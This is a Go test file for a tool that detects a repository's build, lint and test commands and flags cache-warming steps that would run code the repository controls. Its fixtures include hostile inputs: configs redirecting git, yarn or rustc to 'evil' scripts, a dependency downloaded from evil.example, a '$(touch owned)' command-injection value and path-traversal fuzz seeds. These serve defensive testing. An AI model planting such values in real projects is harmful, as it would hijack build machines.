package verify_test

import (
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"gaggle/internal/verify"
)

func tree(files map[string]string) fstest.MapFS {
	fsys := fstest.MapFS{}
	for name, text := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(text), Mode: 0o644}
	}
	return fsys
}

func list(verifiers []verify.Verifier) string {
	var lines []string
	for _, v := range verifiers {
		lines = append(lines, fmt.Sprintf("%s: %s", v.Name, v.Command()))
	}
	return strings.Join(lines, "\n")
}

const (
	scripts = `{"name": "shop", "scripts": {"build": "tsc", "lint": "eslint .", "typecheck": "tsc --noEmit", "test": "jest"}, "devDependencies": {"jest": "^29"}}`
	mvnArgs = "-B -ntp -fae -Dstyle.color=never -DskipITs -Dgpg.skip -Dmaven.javadoc.skip=true"
	compile = `python3 -m compileall -q -f -x '(^|/)(\.?venv|\.tox|\.nox|\.git|node_modules|site-packages|testdata|fixtures|templates|\{\{[^/]*)(/|$)' .`
	wheels  = `PIP_FIND_LINKS="${PIP_FIND_LINKS:-$HOME/.cache/pip/wheels}"; export PIP_FIND_LINKS; mkdir -p "$PIP_FIND_LINKS" && exec python3 -m pip download --quiet`
	pytest  = "python3 -m pytest -rfE --color=no --continue-on-collection-errors"
)

func TestDetect(t *testing.T) {
	for _, c := range []struct {
		name, dir string
		files     map[string]string
		want      []string
	}{
		{"nothing", ".", map[string]string{"README.md": "hello"}, nil},
		{"a folder that is not there", "a/b", map[string]string{"README.md": "hello"}, nil},
		{"a path that leaves the tree", "../x", map[string]string{"go.mod": "module a\n"}, nil},

		{"Go module", ".", map[string]string{"go.mod": "module a\n", "a.go": "package a"},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./...", "go vet: go vet ./...", "go test: go test -vet=off -timeout=9m0s ./..."}},
		{"Go module in a subdirectory", ".", map[string]string{"backend/go.mod": "module a\n"},
			[]string{"go vet: cd backend && go vet ./...", "go test: cd backend && go test -vet=off -timeout=9m0s ./..."}},
		{"Go modules of no concern", ".", map[string]string{"go.mod": "module a\n", "testdata/x/go.mod": "module x\n", "vendor/y/go.mod": "module y\n", "_z/go.mod": "module z\n", ".w/go.mod": "module w\n"},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./...", "go vet: go vet ./...", "go test: go test -vet=off -timeout=9m0s ./..."}},
		{"Go workspace with a module beside it", ".", map[string]string{"go.work": "go 1.24\nuse (\n ./a\n ./b/c\n ../out\n /abs\n ./gone\n)\n", "a/go.mod": "module ex/a\n", "b/c/go.mod": "module ex/c\n", "d/go.mod": "module ex/d\n"},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./a/... ./b/c/...", "go vet: go vet ./a/... ./b/c/...", "go vet (d): cd d && go vet ./...", "go test: go test -vet=off -timeout=9m0s ./a/... ./b/c/...", "go test (d): cd d && go test -vet=off -timeout=9m0s ./..."}},
		{"component inside one Go module", "services/billing", map[string]string{"go.mod": "module a\n", "services/billing/b.go": "package b", "services/other/go.mod": "module o\n"},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./...", "go vet: go vet ./...", "go test: go test -vet=off -timeout=9m0s ./..."}},
		{"component with its own module", "services/other", map[string]string{"go.mod": "module a\n", "services/other/go.mod": "module o\n"},
			[]string{"go build: cd services/other && go build -buildvcs=false -o /dev/null ./...", "go vet: cd services/other && go vet ./...", "go test: cd services/other && go test -vet=off -timeout=9m0s ./..."}},

		{"npm", ".", map[string]string{"package.json": scripts, "package-lock.json": "{}"},
			[]string{"npm build: npm run build", "npm lint: npm run lint", "npm typecheck: npm run typecheck", "npm test: npm run test"}},
		{"the placeholder is no test", ".", map[string]string{"package.json": `{"scripts": {"test": "echo \"Error: no test specified\" && exit 1", "start": "node ."}}`}, nil},
		{"scripts that never end or that rewrite", ".", map[string]string{"package.json": `{"scripts": {"test": "jest --watch", "lint": "eslint --fix .", "build": "webpack --watch", "test:unit": "jest"}}`},
			[]string{"npm test: npm run test:unit"}},
		{"scripts of the wrong type", ".", map[string]string{"package.json": `{"scripts": {"test": ["jest"], "lint": "eslint ."}, "workspaces": 7, "packageManager": {}}`},
			[]string{"npm lint: npm run lint"}},
		{"broken package.json", ".", map[string]string{"package.json": `{"scripts": `}, nil},
		{"pnpm by lockfile", ".", map[string]string{"package.json": scripts, "pnpm-lock.yaml": ""},
			[]string{"pnpm build: pnpm run build", "pnpm lint: pnpm run lint", "pnpm typecheck: pnpm run typecheck", "pnpm test: pnpm run test"}},
		{"yarn by packageManager", ".", map[string]string{"package.json": `{"packageManager": "yarn@4.1.0", "scripts": {"test": "vitest"}}`},
			[]string{"yarn test: yarn run test"}},
		{"yarn from the repository", "packages/a", map[string]string{"package.json": `{"workspaces": ["packages/*"]}`, "yarn.lock": "__metadata:\n", ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.cjs\n", ".yarn/releases/yarn-4.cjs": "", "packages/a/package.json": `{"scripts": {"test": "vitest"}}`},
			[]string{"yarn test: cd packages/a && node ../../.yarn/releases/yarn-4.cjs run test"}},
		{"scripts of a workspace's packages", ".", map[string]string{"package.json": `{"workspaces": {"packages": ["packages/*"]}, "scripts": {"lint": "eslint ."}}`, "package-lock.json": "", "packages/a/package.json": `{"scripts": {"test": "jest"}}`},
			[]string{"npm lint: npm run lint", "npm test: npm run test --workspaces --if-present"}},
		{"a front end beside Go", ".", map[string]string{"go.mod": "module a\n", "web/package.json": `{"scripts": {"test": "vitest run"}}`, "docs/package.json": scripts},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./...", "go vet: go vet ./...", "go test: go test -vet=off -timeout=9m0s ./...", "npm test: cd web && npm run test"}},

		{"pytest", ".", map[string]string{"pyproject.toml": "[project]\nname='a'\n[tool.ruff.lint]\n[tool.mypy]\nfiles = ['a']\n", "a/__init__.py": "", "tests/test_a.py": "def test_a(): pass\n"},
			[]string{"python compile: " + compile, "ruff: ruff check --no-cache .", "mypy: mypy --no-color-output --no-pretty --cache-dir=/dev/null", "pytest: " + pytest}},
		{"unittest", ".", map[string]string{"setup.py": "", "a.py": "", "tests/__init__.py": "", "tests/test_a.py": "import unittest\n"},
			[]string{"python compile: " + compile, "unittest: python3 -m unittest discover -s tests -t ."}},
		{"unittest by another name", ".", map[string]string{"requirements.txt": "", "lib/price_test.py": "import unittest\n"},
			[]string{"python compile: " + compile, "unittest: python3 -m unittest discover -s lib -p '*_test.py'"}},
		{"Python without tests", ".", map[string]string{"requirements.txt": "flask\n", "app.py": ""}, []string{"python compile: " + compile}},
		{"loose Python", ".", map[string]string{"run.py": "", "test_run.py": "import unittest\n"},
			[]string{"python compile: " + compile, "unittest: python3 -m unittest discover"}},
		{"pyproject.toml of another language", ".", map[string]string{"pyproject.toml": "[tool.codespell]\n", "go.mod": "module a\n"},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./...", "go vet: go vet ./...", "go test: go test -vet=off -timeout=9m0s ./..."}},

		{"Maven", ".", map[string]string{"pom.xml": "<project/>"}, []string{"maven verify: mvn " + mvnArgs + " verify"}},
		{"Maven wrapper", ".", map[string]string{"pom.xml": "<project/>", "mvnw": ""}, []string{"maven verify: mvn " + mvnArgs + " verify"}},
		{"a module of a reactor", "services/web", map[string]string{"pom.xml": "<project><modules><module>services</module></modules></project>", "services/pom.xml": "<project><modules><module>web</module></modules></project>", "services/web/pom.xml": "<project/>"},
			[]string{"maven verify: mvn " + mvnArgs + " -pl services/web -am verify"}},
		{"a pom that no reactor names", "tools/x", map[string]string{"pom.xml": "<project><modules><module>core</module></modules></project>", "tools/x/pom.xml": "<project/>"},
			[]string{"maven verify: cd tools/x && mvn " + mvnArgs + " verify"}},
		{"Gradle with wrapper", ".", map[string]string{"build.gradle.kts": "", "settings.gradle.kts": "", "gradlew": ""}, []string{"gradle check: sh ./gradlew --no-daemon --console=plain --continue check"}},
		{"Gradle project of a larger build", "app/core", map[string]string{"settings.gradle": "", "app/core/build.gradle": ""}, []string{"gradle check: gradle --no-daemon --console=plain --continue -p app/core check"}},
		{"both, with one wrapper", ".", map[string]string{"pom.xml": "<project/>", "build.gradle": "", "gradlew": ""}, []string{"gradle check: sh ./gradlew --no-daemon --console=plain --continue check"}},

		{"Cargo", ".", map[string]string{"Cargo.toml": "[package]\nname='a'\n", "rustfmt.toml": ""},
			[]string{"cargo build: cargo build --message-format short", "cargo fmt: cargo fmt --all --check", "cargo test: cargo test --no-fail-fast --message-format short"}},
		{"Cargo workspace", ".", map[string]string{"Cargo.toml": "[workspace]\nmembers=['a']\n", "a/Cargo.toml": "[package]\n"},
			[]string{"cargo build: cargo build --workspace --message-format short", "cargo test: cargo test --workspace --no-fail-fast --message-format short"}},
		{".NET solution", ".", map[string]string{"src/Shop.sln": "", "src/Shop/Shop.csproj": ""},
			[]string{"dotnet build: cd src && dotnet build Shop.sln -nologo -clp:NoSummary", "dotnet test: cd src && dotnet test Shop.sln --nologo --no-build"}},
		{"Bazel", "web", map[string]string{"MODULE.bazel": "", "web/BUILD.bazel": ""}, []string{"bazel test: bazel test --color=no --curses=no --noshow_progress --keep_going --test_output=errors //web/..."}},
		{"pre-commit beside a build", ".", map[string]string{"Cargo.toml": "[package]\n", ".pre-commit-config.yaml": "repos: []\n"},
			[]string{"cargo build: cargo build --message-format short", "pre-commit: cp -R \"$PRE_COMMIT_HOME\" /tmp/hooks 2>/dev/null; PRE_COMMIT_HOME=/tmp/hooks pre-commit run --all-files --color=never", "cargo test: cargo test --no-fail-fast --message-format short"}},

		{"Make alone", ".", map[string]string{"Makefile": "CC := gcc\nall: main\n\t$(CC) main.c\ntest: all\n\t./main\n.PHONY: test\n"}, []string{"make test: make test"}},
		{"Make without tests", ".", map[string]string{"Makefile": "all: main\nmain: main.c\n\tcc main.c\n"}, []string{"make all: make all"}},
		{"Make that doubles", ".", map[string]string{"go.mod": "module a\n", "Makefile": "GO ?= go\ntest: deps\n\t@echo testing\n\t$(GO) test -race ./...\ndeps:\n\tgo mod tidy\ncheck: lint test\nlint:\n\tgo vet ./...\n"},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./...", "go vet: go vet ./...", "go test: go test -vet=off -timeout=9m0s ./..."}},
		{"Make that adds", ".", map[string]string{"go.mod": "module a\n", "Makefile": "lint:\n\tgo vet ./...\n\t./scripts/license.sh\ntest:\n\tdocker compose up\n"},
			[]string{"go build: go build -buildvcs=false -o /dev/null ./...", "go vet: go vet ./...", "make lint: make lint", "go test: go test -vet=off -timeout=9m0s ./..."}},
		{"component with only a Makefile", "tools", map[string]string{"go.mod": "module a\n", "tools/Makefile": "check:\n\t./check.sh\n"}, []string{"make check: cd tools && make check"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := list(verify.Detect(tree(c.files), c.dir)); got != strings.Join(c.want, "\n") {
				t.Errorf("got\n%s\nwant\n%s", got, strings.Join(c.want, "\n"))
			}
		})
	}
}

// TestWarmStepsSayWhatTheyExecute: a step that fills a shared cache must run nothing that the repository can choose.
func TestWarmStepsSayWhatTheyExecute(t *testing.T) {
	for _, c := range []struct {
		name     string
		files    map[string]string
		want     string
		executes bool
	}{
		{"Go", map[string]string{"go.mod": "module a\nrequire example.com/y v1.0.0\n"}, "go mod download", false},
		{"npm", map[string]string{"package.json": scripts, "package-lock.json": "{}"}, "npm ci --ignore-scripts --prefer-offline --no-audit --no-fund", false},
		{"npm with a git of its own", map[string]string{"package.json": scripts, ".npmrc": "registry=https://example.org\n git = ./evil.sh\n", "package-lock.json": "{}"}, "npm ci --ignore-scripts --prefer-offline --no-audit --no-fund", true},
		{"pnpm", map[string]string{"package.json": scripts, "pnpm-lock.yaml": ""}, "pnpm install --ignore-scripts --prefer-offline --frozen-lockfile", false},
		{"pnpm with hooks", map[string]string{"package.json": scripts, "pnpm-lock.yaml": "", ".pnpmfile.cjs": ""}, "pnpm install --ignore-scripts --prefer-offline --frozen-lockfile", true},
		{"yarn", map[string]string{"package.json": scripts, "yarn.lock": ""}, "yarn install --frozen-lockfile --ignore-scripts --non-interactive --prefer-offline", false},
		{"yarn with a program of its own", map[string]string{"package.json": scripts, "yarn.lock": "", ".yarnrc": "yarn-path evil.js"}, "yarn install --frozen-lockfile --ignore-scripts --non-interactive --prefer-offline", true},
		{"Cargo", map[string]string{"Cargo.toml": "[package]\n"}, "cargo fetch", false},
		{"Cargo with a compiler of its own", map[string]string{"Cargo.toml": "[package]\n", ".cargo/config.toml": "build.rustc = './evil'"}, "cargo fetch", true},
		{"Cargo with a toolchain of its own", map[string]string{"Cargo.toml": "[package]\n", "rust-toolchain.toml": "[toolchain]\npath='evil'"}, "cargo fetch", true},
		{"Maven", map[string]string{"pom.xml": "<project/>"}, "mvn " + mvnArgs + " -Dmaven.test.failure.ignore=true verify", true},
		{"plain requirements", map[string]string{"requirements.txt": "flask>=2 # web\nredis[hiredis]==5.0 ; python_version >= '3.8'\n", "test_a.py": "import pytest"},
			wheels + ` --only-binary=:all: --dest "$PIP_FIND_LINKS" -r requirements.txt pytest`, false},
		{"requirements that execute", map[string]string{"requirements.txt": "-e .\n", "test_a.py": "import pytest"},
			wheels + ` --dest "$PIP_FIND_LINKS" -r requirements.txt pytest`, true},
		{"declared dependencies", map[string]string{"pyproject.toml": "[project]\ndependencies = [\n  \"flask>=2\", # web\n  'x @ https://evil.example/x.zip',\n  \"$(touch owned)\",\n]\n[project.optional-dependencies]\ntest = ['hypothesis']\ndocs = ['sphinx']\n", "test_a.py": "import pytest"},
			wheels + ` --only-binary=:all: --dest "$PIP_FIND_LINKS" 'flask>=2' hypothesis pytest`, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			steps := verify.WarmSteps(verify.Detect(tree(c.files), "."))
			if len(steps) == 0 || len(steps) > 1 && !steps[1].Local {
				t.Fatalf("%+v", steps)
			}
			for _, step := range steps[1:] {
				if step.Executes {
					t.Errorf("%+v", step)
				}
			}
			line := (verify.Verifier{Dir: steps[0].Dir, Argv: steps[0].Argv}).Command()
			if line != c.want || steps[0].Executes != c.executes {
				t.Errorf("executes %v\n got %s\nwant %s", steps[0].Executes, line, c.want)
			}
		})
	}
	if steps := verify.WarmSteps(verify.Detect(tree(map[string]string{"go.mod": "module a\n", "vendor/modules.txt": ""}), ".")); len(steps) == 0 || !steps[0].Local {
		t.Errorf("a vendored module has %+v", steps)
	}
}

func TestForAddsCommands(t *testing.T) {
	fsys := tree(map[string]string{"go.mod": "module a\n", "web/package.json": scripts})
	got := verify.For(fsys, ".", verify.Settings{Auto: true, Repository: []string{"make smoke", "go vet ./..."}, Campaign: []string{"make smoke", " go test ./... ", "", "./check.sh --all"}, Timeout: 1e11, Offline: true})
	var names []string
	for _, v := range got {
		names = append(names, v.Name+" <- "+v.Source)
		if v.Timeout != 1e11 || v.Env["GOPROXY"] != "off" {
			t.Errorf("%s: timeout %s, environment %v", v.Name, v.Timeout, v.Env)
		}
		if v.Name == "go test" && !slices.Contains(v.Argv, "-timeout=1m30s") {
			t.Errorf("%v", v.Argv)
		}
	}
	want := []string{"go build <- go.mod", "npm build <- web/package.json", "go vet <- go.mod", "npm lint <- web/package.json", "npm typecheck <- web/package.json",
		"go test <- go.mod", "npm test <- web/package.json", "make smoke <- .gaggle.yaml", "./check.sh --all <- campaign"}
	if !slices.Equal(names, want) {
		t.Errorf("%q", names)
	}
	if only := verify.For(fsys, ".", verify.Settings{Campaign: []string{"make smoke"}}); len(only) != 1 || only[0].Argv[2] != "make smoke" {
		t.Errorf("%+v", only)
	}
	if maven := verify.For(tree(map[string]string{"pom.xml": "<project/>", "mvnw": ""}), ".", verify.Settings{Auto: true, Offline: true}); !slices.Contains(maven[0].Argv, "-o") {
		t.Errorf("%q", maven[0].Argv)
	}
}

func TestHashFollowsWhatRuns(t *testing.T) {
	a := verify.Detect(tree(map[string]string{"go.mod": "module a\n"}), ".")
	if verify.Hash(a) != verify.Hash(verify.Detect(tree(map[string]string{"go.mod": "module a\n", "README.md": ""}), ".")) {
		t.Error("a file that changes nothing changes the hash")
	}
	b := slices.Clone(a)
	b[0].Argv = append(slices.Clone(b[0].Argv), "-x")
	if verify.Hash(a) == verify.Hash(b) {
		t.Error("another command has the same hash")
	}
}

// FuzzDetect feeds hostile files to every detector.
func FuzzDetect(f *testing.F) {
	f.Add("package.json", scripts, "Makefile", "test:\n\tgo test\n")
	f.Add("pom.xml", "<project><modules><module>../..</module></modules></project>", "sub/pom.xml", "<project/>")
	f.Add("go.work", "go 1.24\nuse ../../etc\n", "go.mod", "module a\n")
	f.Add("pyproject.toml", "[project]\ndependencies = [\"a\", 'b;`x`']\n", "a.py", "import pytest")
	f.Fuzz(func(t *testing.T, name1, text1, name2, text2 string) {
		fsys := fstest.MapFS{}
		for name, text := range map[string]string{name1: text1, name2: text2} {
			if name != "." && len(name) < 100 && fs.ValidPath(name) {
				fsys[name] = &fstest.MapFile{Data: []byte(text), Mode: 0o644}
			}
		}
		seen := map[string]bool{}
		for _, v := range verify.Detect(fsys, ".") {
			if seen[v.Name] || v.Name == "" || len(v.Argv) == 0 || v.Timeout == 0 || !fs.ValidPath(v.Dir) {
				t.Errorf("%+v", v)
			}
			seen[v.Name] = true
		}
	})
}
